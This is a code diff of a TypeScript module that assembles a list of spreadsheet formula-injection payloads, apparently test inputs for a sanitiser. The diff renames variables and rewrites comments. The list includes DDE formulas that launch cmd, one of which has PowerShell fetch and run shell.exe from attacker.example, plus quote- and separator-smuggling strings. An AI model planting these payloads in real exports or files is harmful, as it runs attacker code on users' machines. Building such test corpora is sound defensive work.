@@ -22,7 +22,7 @@ const signs = [
   '−',
 ]
 
-/** Known attacks on programs and people. */
+/** Formulas that are known from attacks on spreadsheet programs. */
 const attacks = [
   "=cmd|' /C calc'!A0",
   "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
@@ -67,10 +67,10 @@ const attacks = [
 ]
 
 /**
- * Characters that may precede the sign unseen: spaces, directional marks, fillers, quotes,
+ * Characters that a program may skip before a formula: spaces, directional marks, fillers, quotes,
  * controls.
  */
-const unseen = [
+const skippedPrefixes = [
   ' ',
   '  ',
   '\u00a0',
@@ -145,10 +145,8 @@ const unseen = [
   '\u0301',
 ]
 
-/**
- * Separators at which another program may start a new cell, such as one that ignores the quotes.
- */
-const between = [
+/** Characters at which a program that ignores quotes may start a new cell. */
+const cellSeparators = [
   ';',
   ',',
   '|',
@@ -168,12 +166,12 @@ const between = [
 const all = [
   ...attacks,
   ...signs.map((sign) => `${sign}1+1`),
-  ...signs.map((sign) => sign),
-  ...unseen.map((before) => `${before}=1+1`),
-  ...unseen.slice(0, 12).map((before) => `${before}@SUM(A1)`),
-  ...between.map((sign) => `Hello${sign}=1+1`),
-  ...between.map((sign) => `Hello${sign} "${sign}+cmd|'/C calc'!A0`),
-  ...between.map((sign) => `${sign}-1`),
+  ...signs,
+  ...skippedPrefixes.map((before) => `${before}=1+1`),
+  ...skippedPrefixes.slice(0, 12).map((before) => `${before}@SUM(A1)`),
+  ...cellSeparators.map((separator) => `Hello${separator}=1+1`),
+  ...cellSeparators.map((separator) => `Hello${separator} "${separator}+cmd|'/C calc'!A0`),
+  ...cellSeparators.map((separator) => `${separator}-1`),
   ...[
     'Hello";=1+1;"',
     'a";"=1+1',
@@ -188,5 +186,5 @@ const all = [
   ],
 ]
 
-/** Every text that a visitor might send to become a formula in a spreadsheet; each once. */
+/** Texts that a visitor might send so that a spreadsheet runs a formula, each once. */
 export const payloads: readonly string[] = [...new Set(all)]
